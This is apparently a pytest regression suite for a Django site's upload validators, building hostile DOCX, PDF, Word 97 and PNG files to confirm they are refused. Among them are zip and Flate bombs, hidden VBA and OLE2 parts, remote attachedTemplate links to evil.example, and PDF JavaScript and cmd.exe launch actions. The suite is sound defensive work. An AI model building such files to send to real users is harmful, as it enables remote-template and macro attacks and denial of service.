"""Hostile uploads (issue 10, findings 1, 2 and the long file name of 15), kept as a regression
suite. Every attack file is built here; none is committed."""

import io
import re
import struct
import tracemalloc
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from activities import images
from core.middleware import RequestSanityMiddleware
from core.uploads import PackageProblem, check_ooxml_package
from experts.cv import validate_cv
from experts.models import Expert
from programmes.models import Document, DocumentKind
from programmes.validators import validate_document_file
from tests.experts_data.support import make_programme, valid_data
from tests.programmes_data.factories import make_programmes
from tests.upload_files import (
    OFFICE_RELATIONSHIPS,
    PLAIN_PDF_OBJECTS,
    content_types,
    doc_bytes,
    docx_bytes,
    docx_with,
    docx_with_bomb,
    lie_about_sizes,
    ole2_bytes,
    pdf_bytes,
    pdf_from_objects,
    pdf_stream,
    relationships,
    word97_stream,
)

MB = 1024 * 1024
OLE2 = bytes.fromhex("D0CF11E0A1B11AE1")
VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"


def code_of(validator, name, data):
    with pytest.raises(ValidationError) as raised:
        validator(SimpleUploadedFile(name, data))
    return raised.value.code


def peak_growth(function, *args, **kwargs):
    """Bytes allocated at the peak of `function`, above what was allocated before it."""
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        tracemalloc.reset_peak()
        function(*args, **kwargs)
        return tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()


# -- Finding 1: bounded memory ------------------------------------------------------------


@pytest.fixture(scope="module")
def content_types_bomb():
    bomb = docx_with_bomb("[Content_Types].xml", 1000 * MB)
    assert len(bomb) < 1.1 * MB  # about 1 MB on the wire, 1,000 MB inside
    return bomb


def test_the_content_types_bomb_is_refused_within_50_mb(content_types_bomb, settings):
    settings.EXPERTS_CV_MAX_UNCOMPRESSED = 40 * MB

    def check():
        with pytest.raises(ValidationError) as raised:
            validate_cv(SimpleUploadedFile("cv.docx", content_types_bomb))
        assert raised.value.code == "too_large_uncompressed"

    assert peak_growth(check) < 50 * MB


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "docProps/app.xml"])
def test_a_bomb_in_any_part_is_refused_within_50_mb(part):
    bomb = docx_with_bomb(part, 300 * MB)
    options = {"max_uncompressed": 40 * MB, "max_parts": 1000}

    def check():
        with pytest.raises(PackageProblem) as raised:
            check_ooxml_package(io.BytesIO(bomb), "word/document.xml", **options)
        assert raised.value.code == PackageProblem.TOO_LARGE

    assert peak_growth(check) < 50 * MB


def test_sizes_that_lie_are_refused(content_types_bomb):
    liar = lie_about_sizes(content_types_bomb)
    problem = pytest.raises(
        PackageProblem,
        check_ooxml_package,
        io.BytesIO(liar),
        "word/document.xml",
        max_uncompressed=40 * MB,
        max_parts=1000,
    )
    assert problem.value.code in {PackageProblem.NOT_A_PACKAGE, PackageProblem.TOO_LARGE}


def test_a_directory_declaring_too_many_parts_is_refused_before_parsing(settings):
    settings.EXPERTS_CV_MAX_PARTS = 20
    padded = docx_with({f"word/p{n}.xml": b"<p/>" for n in range(40)})
    assert code_of(validate_cv, "cv.docx", padded) == "too_many_parts"


@pytest.mark.django_db
def test_the_cv_form_refuses_the_bomb_with_a_translated_message(
    client, experts_env, content_types_bomb
):
    programme = make_programme()
    with translation.override("fr"):
        url = reverse("experts:register")
    response = client.post(
        url, valid_data(programme, cv=SimpleUploadedFile("cv.docx", content_types_bomb))
    )
    assert response.status_code == 200
    assert "Une fois décompressé, ce document dépasse" in response.content.decode()
    assert not Expert.objects.exists()


# -- Finding 2: active content found by structure -----------------------------------------


def settings_rels(*entries):
    return {"word/_rels/settings.xml.rels": relationships(*entries)}


HOSTILE_DOCX = {
    "VBA project under another name, declared by its content type": (
        docx_with(
            {"word/hidden.dat": b"not ole"},
            replace={
                "[Content_Types].xml": content_types(
                    f'<Override PartName="/word/hidden.dat" ContentType="{VBA_CONTENT_TYPE}"/>'
                )
            },
        ),
        "macros",
    ),
    "VBA project under another name, found by its relationship": (
        docx_with(
            {
                "word/hidden.dat": b"x",
                "word/_rels/document.xml.rels": relationships(
                    ("../../2006/relationships/vbaProject", "hidden.dat", False)
                ).replace(
                    f"{OFFICE_RELATIONSHIPS}/../../2006/relationships/vbaProject",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                ),
            }
        ),
        "macros",
    ),
    "an OLE2 file hidden in a part of any name": (
        docx_with({"word/media/image1.png": OLE2 + b"\0" * 600}),
        "embedded_objects",
    ),
    "a program hidden in a part": (
        docx_with({"customXml/item9.xml": b"MZ\x90\x00" + b"\0" * 300}),
        "embedded_objects",
    ),
    "macroEnabled content type after the first megabyte": (
        docx_with(
            replace={
                "[Content_Types].xml": content_types(
                    "<!--" + " " * (900 * 1024) + "-->",
                    f'<Override PartName="/word/document.xml" ContentType="{MACRO_DOCUMENT}"/>',
                )
            }
        ),
        "macros",
    ),
    "content types padded beyond what a document needs": (
        docx_with(replace={"[Content_Types].xml": content_types("<!--" + " " * (2 * MB) + "-->")}),
        "invalid_content",
    ),
    "an Excel 4.0 macro sheet": (
        docx_with(
            replace={
                "[Content_Types].xml": content_types(
                    '<Override PartName="/xl/m.xml" ContentType="application/'
                    'vnd.ms-excel.macrosheet+xml"/>'
                )
            }
        ),
        "macros",
    ),
    "an external attachedTemplate": (
        docx_with(settings_rels(("attachedTemplate", "https://evil.example/t.dotm", True))),
        "external_content",
    ),
    "an attachedTemplate on a Windows share": (
        docx_with(settings_rels(("attachedTemplate", "\\\\evil.example\\t.dotm", True))),
        "external_content",
    ),
    "an attachedTemplate as a file URL to another host": (
        docx_with(settings_rels(("attachedTemplate", "file:////evil.example/s/t.dotm", True))),
        "external_content",
    ),
    "an external frame": (
        docx_with(settings_rels(("frame", "\\\\evil.example\\share\\x", True))),
        "external_content",
    ),
    "an embedded OLE object": (
        docx_with(
            {
                "word/embeddings/oleObject1.bin": b"ole",
                "word/_rels/document.xml.rels": relationships(
                    ("oleObject", "embeddings/oleObject1.bin", False)
                ),
            }
        ),
        "embedded_objects",
    ),
    "a second content-types part differing only in case": (
        docx_with(
            {
                "[content_types].XML": content_types(
                    f'<Override PartName="/word/document.xml" ContentType="{MACRO_DOCUMENT}"/>'
                )
            }
        ),
        "invalid_content",
    ),
    "an ActiveX control": (docx_with({"word/activeX/activeX1.xml": b"<ax/>"}), "macros"),
    "a DTD in the content types (entity expansion)": (
        docx_with(
            replace={
                "[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]>'
                b"<Types>&a;</Types>"
            }
        ),
        "invalid_content",
    ),
    "an encrypted member": (None, "encrypted"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DOCX))
def test_active_content_is_refused_as_cv_and_as_document(case, settings):
    data, code = HOSTILE_DOCX[case]
    if data is None:
        data = bytearray(docx_bytes())
        # Set the "encrypted" flag of the first member, in its local and central headers.
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            struct.pack_into("<H", data, at + offset, 1)
        data = bytes(data)
    settings.PROGRAMME_DOCUMENT_MAX_UNCOMPRESSED = settings.EXPERTS_CV_MAX_UNCOMPRESSED = 4 * MB
    assert code_of(validate_cv, "cv.docx", data) == code
    assert code_of(validate_document_file, "form.docx", data) == code


@pytest.mark.parametrize(
    "relationship",
    [
        ("hyperlink", "https://www.linkedin.com/in/amina", True),
        ("hyperlink", "mailto:amina@example.org", True),
        # Word records the template a CV was made from; on the reader's disk, never fetched.
        ("attachedTemplate", "file:///C:/Users/amina/Templates/Resume.dotx", True),
        ("attachedTemplate", "Normal.dotm", True),
    ],
)
def test_links_and_local_template_paths_are_kept(relationship):
    cv = docx_with({"word/_rels/document.xml.rels": relationships(relationship)})
    validate_cv(SimpleUploadedFile("cv.docx", cv))


def test_messages_name_the_problem_in_each_language(settings):
    data = HOSTILE_DOCX["an external attachedTemplate"][0]
    with pytest.raises(ValidationError) as raised:
        validate_cv(SimpleUploadedFile("cv.docx", data))
    messages = {}
    for language in ("en", "fr", "ar"):
        with translation.override(language):
            messages[language] = raised.value.messages[0]
    assert "external template" in messages["en"]
    assert "modèle externe" in messages["fr"]
    assert "قالب خارجي" in messages["ar"]


# PDFs


def pdf_with(*extra_objects, **options):
    return pdf_from_objects([*PLAIN_PDF_OBJECTS, *extra_objects], **options)


HOSTILE_PDFS = {
    "an executable after the header": (
        b"%PDF-1.7\n" + b"MZ\x90\x00" + b"\0" * 400,
        "invalid_content",
    ),
    "HTML after %%EOF": (
        pdf_with() + b"<html><script>alert(1)</script></html>",
        "invalid_content",
    ),
    "a startxref that points nowhere": (
        re.sub(rb"startxref\n\d+", b"startxref\n12", pdf_with()),
        "invalid_content",
    ),
    "JavaScript on opening": (
        pdf_with(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_active_content",
    ),
    "a name spelt with #xx escapes": (
        pdf_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "pdf_active_content",
    ),
    "JavaScript inside a compressed object stream": (
        pdf_with(pdf_stream(b"<< /S /JavaScript /JS (x) >>", dictionary=b"/Type /ObjStm ")),
        "pdf_active_content",
    ),
    "a launch action": (pdf_with(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_active_content"),
    "an embedded file": (
        pdf_with(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"),
        "pdf_active_content",
    ),
    "encryption": (pdf_with(trailer_extra=b"/Encrypt 9 0 R "), "encrypted"),
    "a Flate bomb": (pdf_with(pdf_stream(b"\0" * (8 * MB))), "too_large_uncompressed"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
def test_hostile_pdfs_are_refused(case, settings):
    data, code = HOSTILE_PDFS[case]
    settings.PROGRAMME_DOCUMENT_MAX_UNCOMPRESSED = settings.EXPERTS_CV_MAX_UNCOMPRESSED = 4 * MB
    assert code_of(validate_cv, "cv.pdf", data) == code
    assert code_of(validate_document_file, "form.pdf", data) == code


@pytest.mark.parametrize(
    "data",
    [pdf_bytes(), pdf_with(pdf_stream(b"BT /F1 12 Tf (Hello) Tj ET")), pdf_with() + b"\r\n"],
)
def test_plain_pdfs_are_accepted(data):
    validate_cv(SimpleUploadedFile("cv.pdf", data))
    validate_document_file(SimpleUploadedFile("form.pdf", data))


# Legacy Word (OLE2)

MSI_CLSID = bytes.fromhex("84100C0000000000C000000000000046")
HOSTILE_DOCS = {
    "a Word 97 file with macros": (doc_bytes(storages=["Macros"]), "macros"),
    "a Word 97 file with a VBA project": (doc_bytes(storages=["_VBA_PROJECT_CUR"]), "macros"),
    "a Word 97 file with embedded objects": (doc_bytes(storages=["ObjectPool"]), "macros"),
    "an MSI installer": (
        ole2_bytes({"WordDocument": word97_stream()}, clsid=MSI_CLSID),
        "invalid_content",
    ),
    "any OLE2 file without a Word stream": (ole2_bytes({"Book": b"x"}), "invalid_content"),
    "a WordDocument stream without Word's signature": (
        ole2_bytes({"WordDocument": b"MZ"}),
        "invalid_content",
    ),
    "an encrypted Word 97 file": (
        ole2_bytes({"WordDocument": word97_stream(flags=0x0100)}),
        "encrypted",
    ),
    "a Word 97 template": (ole2_bytes({"WordDocument": word97_stream(flags=0x0001)}), "macros"),
    "a bare OLE2 signature": (OLE2 + b"\0" * 504, "invalid_content"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DOCS))
def test_hostile_word97_files_are_refused(case):
    data, code = HOSTILE_DOCS[case]
    assert code_of(validate_document_file, "form.doc", data) == code


def test_a_plain_word97_file_is_a_document_but_never_a_cv():
    validate_document_file(SimpleUploadedFile("form.doc", doc_bytes()))
    assert code_of(validate_cv, "cv.doc", doc_bytes()) == "invalid_extension"


# -- Finding 1 (images): refused from the header -------------------------------------------


def png_strip(width, height):
    """A valid PNG of width × height black grey pixels, compressed without holding it whole
    (1 × 40,000,000 is about 77 KB)."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + width)
    rows_per_block = max(1, MB // len(row))
    pixels = []
    for start in range(0, height, rows_per_block):
        pixels.append(compressor.compress(row * min(rows_per_block, height - start)))
    pixels.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", b"".join(pixels))
        + chunk(b"IEND", b"")
    )


@pytest.fixture(scope="module")
def strip_png():
    data = png_strip(1, 40_000_000)
    assert len(data) < 100_000
    return data


def test_a_1_by_40_million_png_is_refused_from_its_header_within_50_mb(strip_png):
    def check():
        with pytest.raises(ValidationError) as raised:
            images.validate_photo(SimpleUploadedFile("strip.png", strip_png))
        assert raised.value.code == "too_large"
        with translation.override("fr"):
            assert "Un côté peut mesurer au plus" in raised.value.messages[0]

    assert peak_growth(check) < 50 * MB


@pytest.mark.parametrize(("width", "height"), [(4000, 100), (50, 2000)])
def test_extreme_aspect_ratios_are_refused(width, height):
    with pytest.raises(ValidationError) as raised:
        images.validate_photo(SimpleUploadedFile("strip.png", png_strip(width, height)))
    assert raised.value.code == "aspect_ratio"
    with translation.override("ar"):
        assert "يُرجى قصّها" in raised.value.messages[0]


def test_a_panorama_within_the_ratio_is_accepted():
    images.validate_photo(SimpleUploadedFile("pano.png", png_strip(1600, 200)))


# -- Finding 15: absurd file names ---------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.usefixtures("experts_env")
def test_a_cv_name_too_long_for_the_form_is_a_translated_form_error(client):
    programme = make_programme()
    with translation.override("fr"):
        url = reverse("experts:register")
    cv = SimpleUploadedFile("a" * 240 + ".pdf", pdf_bytes())
    response = client.post(url, valid_data(programme, cv=cv))
    assert response.status_code == 200
    assert "Le nom du fichier est trop long" in response.content.decode()
    assert not Expert.objects.exists()


@pytest.mark.django_db
@pytest.mark.usefixtures("experts_env")
@pytest.mark.parametrize("language", ["en", "fr", "ar"])
def test_a_cv_name_of_over_1_kb_gets_a_page_that_says_what_to_do(client, language):
    programme = make_programme()
    with translation.override(language):
        url = reverse("experts:register")
    cv = SimpleUploadedFile("cv.pdf", pdf_bytes())
    # Past the setter, which cuts names at 255 characters: a browser sends the name as it is.
    cv._name = "ي" * 700 + ".pdf"
    response = client.post(url, valid_data(programme, cv=cv))
    assert response.status_code == 400
    html = response.content.decode()
    expected = {
        "en": "A file name in the form is too long",
        "fr": "Un nom de fichier du formulaire est trop long",
        "ar": "اسم أحد الملفات في النموذج طويل جدًا",
    }[language]
    assert expected in html
    assert not Expert.objects.exists()


@pytest.mark.django_db
def test_a_staff_document_name_too_long_is_a_form_error(admin_client, media):
    programme = make_programmes(1)[0]
    kind = DocumentKind.objects.create(slug="tor-long", name_en="ToR", order=9)
    name = "x" * 230 + ".pdf"
    response = admin_client.post(
        "/en/admin/programmes/document/add/",
        {
            "programme": programme.pk,
            "kind": kind.pk,
            "file_en": SimpleUploadedFile(name, pdf_bytes()),
        },
    )
    assert response.status_code == 200
    assert "The file name is too long" in response.content.decode()
    assert not Document.objects.filter(kind=kind).exists()


@pytest.mark.django_db
def test_a_staff_document_name_of_over_1_kb_gets_the_page_not_a_bare_400(admin_client, media):
    programme = make_programmes(1)[0]
    kind = DocumentKind.objects.create(slug="tor-long", name_en="ToR", order=9)
    upload = SimpleUploadedFile("form.pdf", pdf_bytes())
    upload._name = "x" * 1500 + ".pdf"
    response = admin_client.post(
        "/en/admin/programmes/document/add/",
        {"programme": programme.pk, "kind": kind.pk, "file_en": upload},
    )
    assert response.status_code == 400
    assert "The form could not be read" in response.content.decode()
    assert not Document.objects.filter(kind=kind).exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("en", "can only be checked for macros and embedded objects"),
        ("fr", "ne peut être vérifié que pour les macros"),
        ("ar", "لا يمكن التحقق من ملف DOC"),
    ],
)
def test_the_document_form_says_what_it_refuses_and_what_it_cannot_check(
    admin_client, language, expected
):
    response = admin_client.get(f"/{language}/admin/programmes/document/add/")
    assert response.status_code == 200
    assert response.content.decode().count(expected) == 3  # one per language slot


class _CutOffStream:
    """A request body whose client went away after the headers."""

    def read(self, *args):
        raise OSError("connection reset")

    readline = read


@pytest.mark.django_db
def test_an_upload_cut_off_midway_is_answered_not_a_server_error(rf):
    request = rf.post("/en/roscab/register/", {"cv": SimpleUploadedFile("cv.pdf", pdf_bytes())})
    request._stream = _CutOffStream()
    reached = []
    response = RequestSanityMiddleware(reached.append)(request)
    assert response.status_code == 400
    assert not reached
